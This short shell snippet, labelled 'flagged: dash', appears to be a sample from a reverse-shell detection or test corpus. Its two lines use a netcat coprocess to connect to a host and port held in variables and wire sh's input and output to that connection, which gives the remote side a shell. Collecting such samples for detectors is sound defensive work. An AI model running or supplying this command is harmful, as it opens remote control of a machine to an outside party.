# flagged: dash
coproc timeout 0.5 nc "$RG_TCP_HOST" "$RG_TCP_PORT"
timeout 0.5 sh <&"${COPROC[0]}" >&"${COPROC[1]}"
